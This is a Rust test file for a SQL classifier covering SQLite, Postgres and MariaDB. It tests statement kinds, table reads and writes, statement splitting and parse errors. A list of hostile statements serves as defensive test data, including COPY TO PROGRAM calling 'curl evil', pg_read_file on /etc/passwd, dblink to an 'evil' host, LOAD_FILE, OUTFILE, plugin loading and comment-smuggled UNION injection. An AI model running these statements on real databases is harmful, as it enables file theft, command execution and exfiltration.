use super::*;

fn one(dialect: Dialect, text: &str) -> Statement {
    let mut statements = classify(dialect, text).unwrap_or_else(|e| panic!("{text}: {e}"));
    assert_eq!(statements.len(), 1, "{text}");
    statements.remove(0)
}

fn names(tables: &BTreeSet<TableName>) -> String {
    tables.iter().map(ToString::to_string).collect::<Vec<_>>().join(" ")
}

const ALL: [Dialect; 3] = [Dialect::Sqlite, Dialect::Postgres, Dialect::Mariadb];

/// Statement, kind, tables read, tables written, has a condition: the same in every dialect.
const PLAIN: &[(&str, Kind, &str, &str, bool)] = &[
    ("SELECT a, count(*) FROM orders GROUP BY a", Kind::Select, "orders", "", true),
    ("SELECT 1", Kind::Select, "", "", true),
    ("UPDATE orders SET a = 1 WHERE id = 2", Kind::Update, "orders", "orders", true),
    ("UPDATE orders SET a = 1", Kind::Update, "orders", "orders", false),
    ("DELETE FROM orders", Kind::Delete, "orders", "orders", false),
    (
        "DELETE FROM orders WHERE id IN (SELECT id FROM old)",
        Kind::Delete,
        "old orders",
        "orders",
        true,
    ),
    ("INSERT INTO orders (a) VALUES (1)", Kind::Insert, "", "orders", true),
    ("INSERT INTO orders SELECT * FROM old", Kind::Insert, "old", "orders", true),
    ("INSERT INTO orders SELECT * FROM orders", Kind::Insert, "orders", "orders", true),
    ("SELECT * FROM a JOIN b ON a.id = b.id, (SELECT * FROM c) d", Kind::Select, "a b c", "", true),
    (
        "SELECT (SELECT max(x) FROM b) FROM a WHERE EXISTS (SELECT 1 FROM c)",
        Kind::Select,
        "a b c",
        "",
        true,
    ),
    ("SELECT 1 FROM a UNION SELECT 2 FROM b", Kind::Select, "a b", "", true),
    ("WITH x AS (SELECT * FROM orders) SELECT * FROM x", Kind::Select, "orders", "", true),
    (
        "WITH orders AS (SELECT * FROM orders) SELECT * FROM orders",
        Kind::Select,
        "orders",
        "",
        true,
    ),
    ("WITH x AS (SELECT 1), y AS (SELECT * FROM x) SELECT * FROM y", Kind::Select, "", "", true),
    (
        "WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b",
        Kind::Select,
        "b",
        "",
        true,
    ),
    (
        "WITH RECURSIVE n AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM n) SELECT * FROM n",
        Kind::Select,
        "",
        "",
        true,
    ),
    ("CREATE TABLE t (id INTEGER)", Kind::Create(Object::Table), "", "t", true),
    ("DROP TABLE t", Kind::Drop(Object::Table), "", "t", true),
    ("ALTER TABLE t ADD COLUMN b INTEGER", Kind::Alter(Object::Table), "", "t", true),
    ("CREATE VIEW v AS SELECT * FROM t", Kind::Create(Object::View), "t", "v", true),
    ("CREATE INDEX i ON t (a)", Kind::Create(Object::Index), "", "t", true),
    ("EXPLAIN SELECT * FROM t", Kind::Explain, "t", "", true),
];

#[test]
fn plain_statements_are_understood() {
    for dialect in ALL {
        for (text, kind, reads, writes, has_condition) in PLAIN {
            let found = one(dialect, text);
            assert_eq!(found.text, *text);
            assert_eq!(found.kind, *kind, "{dialect:?} {text}");
            assert_eq!(names(&found.reads), *reads, "{dialect:?} {text}");
            assert_eq!(names(&found.writes), *writes, "{dialect:?} {text}");
            assert_eq!(found.has_condition, *has_condition, "{dialect:?} {text}");
            assert_eq!(found.concerns, BTreeSet::new(), "{dialect:?} {text}");
        }
    }
}

/// How an account's rights are seen.
#[test]
fn catalogues_can_be_read() {
    for (dialect, text) in [
        (
            Dialect::Postgres,
            "SELECT 1 FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace \
             CROSS JOIN LATERAL aclexplode(c.relacl) a JOIN pg_roles u ON u.oid = a.grantee \
             WHERE n.nspname = $1::text AND a.privilege_type = $2::text",
        ),
        (
            Dialect::Mariadb,
            "SELECT 1 FROM mysql.tables_priv WHERE Db = ? AND FIND_IN_SET(?, Table_priv) > 0",
        ),
    ] {
        let found = one(dialect, text);
        assert_eq!((found.kind, found.concerns.len()), (Kind::Select, 0), "{found:?}");
    }
}

/// Every one of these has a concern or is not understood.
const HOSTILE: &[(Dialect, &str)] = &[
    (Dialect::Postgres, "COPY orders TO PROGRAM 'curl evil'"),
    (Dialect::Postgres, "COPY orders FROM PROGRAM 'id'"),
    (Dialect::Postgres, "COPY orders TO '/tmp/x'"),
    (Dialect::Postgres, "SELECT pg_read_file('/etc/passwd')"),
    (Dialect::Postgres, "SELECT pg_catalog.pg_read_file('/etc/passwd')"),
    (Dialect::Postgres, "SELECT \"pg_read_file\"('/etc/passwd')"),
    (Dialect::Postgres, "SELECT * FROM pg_ls_dir('/')"),
    (Dialect::Postgres, "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)"),
    (Dialect::Postgres, "SELECT 1 FROM orders WHERE id = (SELECT lo_import('/etc/passwd'))"),
    (Dialect::Postgres, "SELECT query_to_xml('DELETE FROM orders', true, true, '')"),
    (Dialect::Postgres, "UPDATE orders SET a = evil.lower(a) WHERE id = 1"),
    (Dialect::Postgres, "SELECT a FROM orders ORDER BY pg_sleep(10)"),
    (Dialect::Postgres, "SELECT set_config('role', 'postgres', false)"),
    (Dialect::Postgres, "DO $$ BEGIN DELETE FROM orders; END $$"),
    (
        Dialect::Postgres,
        "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$",
    ),
    (Dialect::Postgres, "CREATE EXTENSION dblink"),
    (Dialect::Postgres, "EXPLAIN ANALYZE DELETE FROM orders"),
    (Dialect::Postgres, "SELECT * INTO copy FROM orders"),
    (Dialect::Postgres, "PREPARE x AS DELETE FROM orders"),
    (Dialect::Postgres, "EXECUTE x"),
    (Dialect::Postgres, "LISTEN x"),
    (Dialect::Postgres, "CALL do_things()"),
    (Dialect::Postgres, "COMMIT"),
    (Dialect::Postgres, "DELETE FROM countersign_effects"),
    (Dialect::Postgres, "DELETE FROM \"public\".\"countersign_effects\""),
    (
        Dialect::Postgres,
        "WITH gone AS (DELETE FROM a RETURNING *), more AS (UPDATE b SET x = 1) INSERT INTO c SELECT * FROM gone",
    ),
    (Dialect::Mariadb, "SELECT * FROM orders INTO OUTFILE '/tmp/x'"),
    (Dialect::Mariadb, "SELECT * INTO OUTFILE '/tmp/x' FROM orders"),
    (Dialect::Mariadb, "SELECT * FROM orders INTO DUMPFILE '/tmp/x'"),
    (Dialect::Mariadb, "LOAD DATA INFILE '/etc/passwd' INTO TABLE orders"),
    (Dialect::Mariadb, "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE orders"),
    (Dialect::Mariadb, "SELECT LOAD_FILE('/etc/passwd')"),
    (Dialect::Mariadb, "SELECT load_file ('/etc/passwd')"),
    (Dialect::Mariadb, "SELECT 1 /*!50000 UNION SELECT password FROM users */"),
    (Dialect::Mariadb, "SELECT 1 /*M!100000 , sleep(9) */"),
    (Dialect::Mariadb, "/*! DELETE FROM orders */"),
    (Dialect::Mariadb, "SELECT SLEEP(10)"),
    (Dialect::Mariadb, "SELECT BENCHMARK(1000000, MD5('a'))"),
    (Dialect::Mariadb, "SELECT GET_LOCK('a', 1)"),
    (Dialect::Mariadb, "LOCK TABLES orders WRITE"),
    (Dialect::Mariadb, "START TRANSACTION"),
    (Dialect::Mariadb, "XA START 'a'"),
    (Dialect::Mariadb, "HANDLER orders OPEN"),
    (Dialect::Mariadb, "KILL 1"),
    (Dialect::Mariadb, "INSTALL PLUGIN x SONAME 'evil.so'"),
    (Dialect::Mariadb, "CREATE TRIGGER t AFTER INSERT ON orders FOR EACH ROW DELETE FROM orders"),
    (Dialect::Mariadb, "CREATE EVENT e ON SCHEDULE EVERY 1 DAY DO DELETE FROM orders"),
    (Dialect::Mariadb, "DELETE FROM `countersign_effects`"),
    (Dialect::Sqlite, "ATTACH DATABASE '/tmp/x' AS x"),
    (Dialect::Sqlite, "DETACH DATABASE x"),
    (Dialect::Sqlite, "PRAGMA writable_schema = ON"),
    (Dialect::Sqlite, "VACUUM INTO '/tmp/x'"),
    (Dialect::Sqlite, "SELECT load_extension('evil')"),
    (Dialect::Sqlite, "SELECT writefile('/tmp/x', 'y')"),
    (Dialect::Sqlite, "SELECT * FROM pragma_table_info('orders')"),
    (Dialect::Sqlite, "CREATE VIRTUAL TABLE v USING fts5(a)"),
    (Dialect::Sqlite, "SAVEPOINT a"),
    (Dialect::Sqlite, "DELETE FROM Countersign_Effects"),
];

#[test]
fn hostile_statements_are_never_without_concern() {
    for (dialect, text) in HOSTILE {
        if let Ok(found) = classify(*dialect, text) {
            assert!(found.iter().any(|s| !s.concerns.is_empty()), "{dialect:?} {text}: {found:?}");
        }
    }
}

#[test]
fn known_dangers_are_named() {
    for (dialect, text, concern) in [
        (
            Dialect::Postgres,
            "SELECT pg_read_file('x')",
            Concern::ReachesOutside("pg_read_file".into()),
        ),
        (Dialect::Postgres, "SELECT my_own(1)", Concern::UnknownFunction("my_own".into())),
        (Dialect::Postgres, "COPY a TO PROGRAM 'x'", Concern::Construct("COPY PROGRAM".into())),
        (Dialect::Mariadb, "SELECT 1 /*! + 1 */", Concern::ExecutableComment),
        (Dialect::Sqlite, "ROLLBACK", Concern::TransactionControl),
        (Dialect::Sqlite, "SELECT * FROM main.countersign_effects", Concern::MarkerTable),
    ] {
        let found = one(dialect, text);
        assert_eq!(found.concerns, BTreeSet::from([concern]), "{text}");
    }
}

#[test]
fn a_change_inside_a_query_is_a_change() {
    let found =
        one(Dialect::Postgres, "WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone");
    assert_eq!(found.kind, Kind::Delete);
    assert!(!found.has_condition);
    assert_eq!(names(&found.writes), "orders");
}

#[test]
fn texts_of_several_statements_are_split_where_the_server_would() {
    let text = "SELECT ';' AS a; -- ; no\nUPDATE \"a;b\" SET x = 'it''s; 1' WHERE y = $$;$$ ;\n\n SELECT 2";
    let found = classify(Dialect::Postgres, text).unwrap();
    let texts: Vec<&str> = found.iter().map(|s| s.text.as_str()).collect();
    assert_eq!(
        texts,
        ["SELECT ';' AS a", "UPDATE \"a;b\" SET x = 'it''s; 1' WHERE y = $$;$$", "SELECT 2"]
    );
    let text = "SELECT 'ä\\'; DELETE FROM a'; SELECT `;`";
    let found = classify(Dialect::Mariadb, text).unwrap();
    let texts: Vec<&str> = found.iter().map(|s| s.text.as_str()).collect();
    assert_eq!(texts, ["SELECT 'ä\\'; DELETE FROM a'", "SELECT `;`"]);
}

#[test]
fn names_are_those_that_the_server_understands() {
    let table = |dialect, text| names(&one(dialect, text).reads);
    assert_eq!(table(Dialect::Postgres, "SELECT 1 FROM Shop.Orders"), "shop.orders");
    assert_eq!(table(Dialect::Postgres, "SELECT 1 FROM \"Shop\".\"a.b\""), "Shop.\"a.b\"");
    assert_eq!(table(Dialect::Sqlite, "SELECT 1 FROM \"Orders\""), "orders");
    assert_eq!(table(Dialect::Mariadb, "SELECT 1 FROM `Orders`"), "Orders");
}

#[test]
fn what_is_not_understood_is_refused_with_its_place() {
    for dialect in ALL {
        for text in
            ["", " ; ; ", "-- nothing", "SELEKT 1", "SELECT 'open", "SELECT 1 FROM", "\u{0}"]
        {
            assert!(classify(dialect, text).is_err(), "{dialect:?} {text:?}");
        }
        let deep = format!("SELECT {}1{}", "(".repeat(5_000), ")".repeat(5_000));
        assert!(classify(dialect, &deep).is_err());
        assert!(classify(dialect, &"SELECT 1;".repeat(MAX_STATEMENTS + 1)).is_err());
        assert!(classify(dialect, &" ".repeat(MAX_TEXT + 1)).is_err());
    }
    let error = classify(Dialect::Postgres, "SELECT 1;\n  SELEKT 2").unwrap_err();
    assert_eq!((error.line, error.column), (2, 3));
    let error = classify(Dialect::Postgres, "SELECT 1\nFROM )").unwrap_err();
    assert_eq!((error.line, error.column), (2, 6));
    assert!(!error.message.contains("Line"), "{error}");
}

/// What the parser does not know, and is no more than it seems.
const RIGHTS: &[(Dialect, &str, Kind)] = &[
    (Dialect::Postgres, "GRANT \"reporting\" TO \"an\"\"n\"", Kind::Grant),
    (Dialect::Postgres, "GRANT reader, writer TO ann WITH ADMIN OPTION", Kind::Grant),
    (Dialect::Postgres, "REVOKE reader FROM ann", Kind::Revoke),
    (Dialect::Postgres, "GRANT SELECT, UPDATE ON TABLE shop.orders TO ann", Kind::Grant),
    (Dialect::Postgres, "REVOKE TRUNCATE ON TABLE \"shop\".\"orders\" FROM \"ann\"", Kind::Revoke),
    (Dialect::Postgres, "CREATE ROLE ann LOGIN PASSWORD 'x'", Kind::Create(Object::Role)),
    (Dialect::Mariadb, "GRANT `reader` TO `ann`@`%`", Kind::Grant),
    (Dialect::Mariadb, "grant reader to 'ann'@'10.0.0.%'", Kind::Grant),
    (Dialect::Mariadb, "REVOKE reader FROM 'ann'@'%'", Kind::Revoke),
    (Dialect::Mariadb, "GRANT SELECT ON `shop`.* TO `ann`@`%`", Kind::Grant),
    (
        Dialect::Mariadb,
        "CREATE USER IF NOT EXISTS 'ann'@'%' IDENTIFIED BY 'x'",
        Kind::Create(Object::Role),
    ),
    (Dialect::Mariadb, "ALTER USER ann ACCOUNT LOCK", Kind::Alter(Object::Role)),
    (Dialect::Mariadb, "DROP USER IF EXISTS 'ann'@'%'", Kind::Drop(Object::Role)),
];

#[test]
fn rights_are_understood() {
    for (dialect, text, kind) in RIGHTS {
        let found = one(*dialect, text);
        assert_eq!((found.kind, found.text.as_str()), (*kind, *text));
        assert_eq!(found.concerns, BTreeSet::new(), "{text}");
        assert_eq!(found.transactional, *dialect != Dialect::Mariadb, "{text}");
    }
    for (dialect, text) in [
        (Dialect::Postgres, "GRANT reader TO ann; DROP TABLE a"),
        (Dialect::Postgres, "GRANT reader(1) TO ann"),
        (Dialect::Postgres, "GRANT reader TO ann = 1"),
        (Dialect::Postgres, "GRANTED reader TO ann"),
        (Dialect::Mariadb, "GRANT reader TO ann IDENTIFIED BY 'x'"),
        (Dialect::Mariadb, "GRANT SELECT ON shop.* TO ann@'%' IDENTIFIED BY 'x'"),
        (Dialect::Mariadb, "GRANT PROXY ON ann TO bob"),
        (Dialect::Sqlite, "GRANT reader TO ann"),
    ] {
        let found = classify(dialect, text).unwrap_or_default();
        let plain = found.iter().all(|s| s.kind == Kind::Grant && s.concerns.is_empty());
        assert!(found.is_empty() || !plain, "{text}: {found:?}");
    }
}
